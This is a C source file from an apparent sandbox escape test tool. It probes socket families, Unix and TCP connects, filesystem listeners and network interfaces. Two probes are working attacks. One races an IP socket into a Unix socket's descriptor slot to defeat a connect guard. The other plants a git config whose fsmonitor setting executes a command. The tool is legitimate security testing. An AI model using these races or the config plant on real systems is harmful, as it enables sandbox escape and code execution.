/*
 * escape_probe_sockets: the network attempts: opening sockets of each family,
 * connecting to Unix sockets by path and by abstract name and to TCP addresses, racing
 * an IP socket into a Unix socket's descriptor slot under a connect guard, connecting
 * from a second thread, planting a directory the moment a protected name is free,
 * listening on a socket in the file system, and listing the network interfaces.
 * Part of escape-probe (escape_probe.c); a test tool, not part of the server.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "escape_probe.h"

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif
#ifndef AF_ALG
#define AF_ALG 38
#endif

static const struct {
    const char *name;
    int family, type, proto;
} families[] = {
    {"unix", AF_UNIX, SOCK_STREAM, 0},   {"inet", AF_INET, SOCK_STREAM, 0},
    {"inet6", AF_INET6, SOCK_STREAM, 0}, {"netlink", AF_NETLINK, SOCK_RAW, 0},
    {"packet", AF_PACKET, SOCK_RAW, 0},  {"vsock", AF_VSOCK, SOCK_STREAM, 0},
    {"alg", AF_ALG, SOCK_SEQPACKET, 0},  {"inet_raw", AF_INET, SOCK_RAW, 1 /* ICMP */},
};

static void at_socket(const char *name, const char *arg)
{
    for (size_t i = 0; i < sizeof families / sizeof families[0]; i++) {
        if (arg && *arg && strcmp(arg, families[i].name) != 0) continue;
        char label[64];
        snprintf(label, sizeof label, "%s:%s", name, families[i].name);
        int fd = socket(families[i].family, families[i].type, families[i].proto);
        emit(label, rc_err(fd), "family %d", families[i].family);
        if (fd >= 0) close(fd);
    }
}

static void at_socketpair(const char *name, const char *arg)
{
    int sv[2];
    (void)arg;
    int r = socketpair(AF_UNIX, SOCK_STREAM, 0, sv);
    emit(name, rc_err(r), "AF_UNIX stream");
    if (r == 0) close(sv[0]), close(sv[1]);
}

/* connect, send "ping", wait up to 3 s for a reply. */
static void connect_common(const char *name, int fd, const struct sockaddr *sa, socklen_t len,
                           const char *what)
{
    if (fd < 0) {
        emit(name, errno, "socket for %s", what);
        return;
    }
    if (connect(fd, sa, len) < 0) {
        emit(name, errno, "connect %s", what);
        close(fd);
        return;
    }
    char reply[128] = "";
    ssize_t s = send(fd, "ping\n", 5, MSG_NOSIGNAL);
    struct timeval tv = {3, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    ssize_t r = s == 5 ? recv(fd, reply, sizeof reply - 1, 0) : -1;
    reply[r > 0 ? r : 0] = 0;
    emit(name, 0, "connected to %s; reply=%s", what, r > 0 ? reply : "(none)");
    close(fd);
}

static void at_connect_unix(const char *name, const char *arg, int abstract)
{
    struct sockaddr_un sa;
    if (!need_arg(name, arg)) return;
    memset(&sa, 0, sizeof sa);
    sa.sun_family = AF_UNIX;
    size_t n = strlen(arg);
    if (n > sizeof sa.sun_path - 2) n = sizeof sa.sun_path - 2;
    memcpy(sa.sun_path + (abstract ? 1 : 0), arg, n);
    socklen_t len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n + (abstract ? 1 : 0));
    connect_common(name, socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&sa, len, arg);
}

static void at_connect_path(const char *name, const char *arg)
{
    at_connect_unix(name, arg, 0);
}

static void at_connect_abstract(const char *name, const char *arg)
{
    at_connect_unix(name, arg, 1);
}

static void at_connect_tcp(const char *name, const char *arg)
{
    char host[128], port[16];
    if (!need_arg(name, arg)) return;
    split2(arg, host, sizeof host, port, sizeof port);
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons((uint16_t)atoi(port));
    if (inet_pton(AF_INET, host, &sa.sin_addr) != 1) {
        emit(name, EINVAL, "bad address %s", host);
        return;
    }
    connect_common(name, socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&sa, sizeof sa, arg);
}

static int inet4_arg(const char *name, const char *arg, struct sockaddr_in *sa)
{
    char host[128], port[16];
    if (!need_arg(name, arg)) return 0;
    split2(arg, host, sizeof host, port, sizeof port);
    memset(sa, 0, sizeof *sa);
    sa->sin_family = AF_INET;
    sa->sin_port = htons((uint16_t)atoi(port));
    if (inet_pton(AF_INET, host, &sa->sin_addr) != 1) {
        emit(name, EINVAL, "bad address %s", host);
        return 0;
    }
    return 1;
}

/* What a WebSocket server answers an upgrade on fd: its status line, to show who
 * was reached. */
static void upgrade_status(int fd, char *line, size_t n)
{
    static const char req[] =
        "GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Sec-WebSocket-Version: 13\r\n\r\n";
    struct timeval tv = {3, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    ssize_t r = send(fd, req, sizeof req - 1, MSG_NOSIGNAL) > 0 ? recv(fd, line, n - 1, 0) : -1;
    line[r > 0 ? r : 0] = 0;
    line[strcspn(line, "\r\n")] = 0;
}

static double now_s(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* A connect guard that looks at the socket behind a descriptor number and then lets
 * the kernel carry on with the call uses that number twice: between the look and the
 * use, another task sharing the descriptor table (clone CLONE_FILES) puts an IP
 * socket where a Unix one was looked at. ok: the IP socket got connected to IPV4:PORT
 * (the detail shows what answered a WebSocket upgrade there). */
static void at_connect_swap(const char *name, const char *arg)
{
    struct sockaddr_in sa;
    if (!inet4_arg(name, arg, &sa)) return;
    int u = socket(AF_UNIX, SOCK_STREAM, 0), in = socket(AF_INET, SOCK_STREAM, 0);
    if (u < 0 || in < 0) {
        emit(name, errno, "socket");
        return;
    }
    const int slot = 200;
    if (dup2(u, slot) < 0) {
        emit(name, errno, "dup2");
        return;
    }
    pid_t t = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL, NULL, 0);
    if (t < 0) {
        emit(name, errno, "clone CLONE_FILES");
        return;
    }
    if (t == 0)
        for (;;) {
            dup2(in, slot);
            dup2(u, slot);
        }
    long tries = 0, refused = 0, other = 0;
    int got = 0;
    for (double end = now_s() + 2; !got && now_s() < end;) {
        tries++;
        if (connect(slot, (struct sockaddr *)&sa, sizeof sa) == 0) {
            struct sockaddr_in peer;
            socklen_t pl = sizeof peer;
            got = getpeername(in, (struct sockaddr *)&peer, &pl) == 0;
        } else if (errno == ECONNREFUSED) {
            refused++;
        } else if (errno != EINVAL && errno != EAFNOSUPPORT) {
            other++;
        }
    }
    kill(t, SIGKILL);
    waitpid(t, NULL, 0);
    if (!got) {
        emit(name, ECONNREFUSED, "%ld tries (%ld refused, %ld other), never connected", tries,
             refused, other);
        return;
    }
    char line[256];
    upgrade_status(in, line, sizeof line);
    emit(name, 0, "connected after %ld tries; upgrade answered: %s", tries, line);
}

static void *connect_in_thread(void *p)
{
    const struct sockaddr_in *sa = p;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    long err = fd < 0 || connect(fd, (const struct sockaddr *)sa, sizeof *sa) < 0 ? errno : 0;
    if (fd >= 0) close(fd);
    return (void *)err;
}

/* A connect from a thread that is not the process's first (Go, Java, a resolver's
 * thread pool): a positive control for a guard that must find the caller's
 * descriptors from its thread id. */
static void at_connect_thread(const char *name, const char *arg)
{
    struct sockaddr_in sa;
    if (!inet4_arg(name, arg, &sa)) return;
    pthread_t th;
    void *res = NULL;
    int e = pthread_create(&th, NULL, connect_in_thread, &sa);
    if (e) {
        emit(name, e, "pthread_create");
        return;
    }
    pthread_join(th, &res);
    emit(name, (int)(long)res, "connect %s from a second thread", arg);
}

/* A protected name's read-only mount detached under the sandbox (the host removed the
 * directory it sat on) leaves the name free for a moment: PROCS processes loop on
 * mkdir(NAME) for SECONDS and, the moment one succeeds, write NAME/config. ok: planted
 * (the detail says after how many tries and what the write returned). */
static void at_plant(const char *name, const char *arg)
{
    char dir[256], rest[64], secs[16], procs[16];
    if (!need_arg(name, arg)) return;
    split2(arg, dir, sizeof dir, rest, sizeof rest);
    split2(rest, secs, sizeof secs, procs, sizeof procs);
    int n = atoi(procs) > 0 ? atoi(procs) : 1;
    double end = now_s() + (atof(secs) > 0 ? atof(secs) : 2);
    char cfg[300];
    snprintf(cfg, sizeof cfg, "%s/config", dir);
    for (int i = 0; i < n; i++) {
        if (fork() != 0) continue;
        for (long tries = 1; now_s() < end; tries++) {
            if (mkdir(dir, 0755) < 0) continue;
            int fd = open(cfg, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
            static const char text[] = "[core]\n\tfsmonitor = \"echo PWNED\"\n";
            ssize_t w = fd >= 0 ? write(fd, text, sizeof text - 1) : -1;
            emit(name, 0, "created %s after %ld tries; config write %zd", dir, tries, w);
            _exit(0);
        }
        _exit(1);
    }
    int st, planted = 0;
    while (wait(&st) > 0)
        planted |= WIFEXITED(st) && WEXITSTATUS(st) == 0;
    if (!planted) emit(name, EEXIST, "%s never created", dir);
}

/* A listening socket in the file system: a way in for unsandboxed host processes. */
static void at_listen_path(const char *name, const char *arg)
{
    struct sockaddr_un sa;
    if (!need_arg(name, arg)) return;
    memset(&sa, 0, sizeof sa);
    sa.sun_family = AF_UNIX;
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s", arg);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) {
        emit(name, errno, "socket");
        return;
    }
    if (bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0) {
        emit(name, errno, "bind %s", arg);
    } else {
        emit(name, rc_err(listen(fd, 1)), "listen %s", arg);
    }
    close(fd);
}

/* Network interfaces visible (a private network namespace shows only lo). */
static void at_netif(const char *name, const char *arg)
{
    (void)arg;
    FILE *f = fopen("/proc/net/dev", "r");
    if (!f) {
        emit(name, errno, "/proc/net/dev");
        return;
    }
    char line[512], list[512] = "";
    int n = 0;
    while (fgets(line, sizeof line, f)) {
        char *c = strchr(line, ':');
        if (!c) continue;
        *c = 0;
        char *s = line;
        while (*s == ' ')
            s++;
        size_t l = strlen(list), k = strlen(s);
        if (l + k + 2 > sizeof list) break; /* enough names to report */
        if (l) list[l++] = ',';
        memcpy(list + l, s, k + 1);
        n++;
    }
    fclose(f);
    emit(name, 0, "count=%d names=%s", n, list);
}

const struct probe_attempt probe_sockets[] = {
    {"socket", at_socket, "[unix|inet|inet6|netlink|packet|vsock|alg|inet_raw]", 0},
    {"socketpair", at_socketpair, "AF_UNIX", 0},
    {"connect_path", at_connect_path, "PATH  AF_UNIX pathname socket; ping and read the reply", 0},
    {"connect_abstract", at_connect_abstract, "NAME  abstract AF_UNIX socket \\0NAME", 0},
    {"connect_tcp", at_connect_tcp, "IPV4:PORT", 0},
    {"connect_swap", at_connect_swap, "IPV4:PORT  race an IP socket into a Unix one's slot", 0},
    {"connect_thread", at_connect_thread, "IPV4:PORT  connect from a second thread", 0},
    {"plant", at_plant, "DIR[:SECONDS[:PROCS]]  loop on mkdir DIR, then write DIR/config", 0},
    {"listen_path", at_listen_path, "PATH  bind and listen on a pathname AF_UNIX socket", 0},
    {"netif", at_netif, "network interfaces in /proc/net/dev", 0},
    {NULL, NULL, NULL, 0},
};
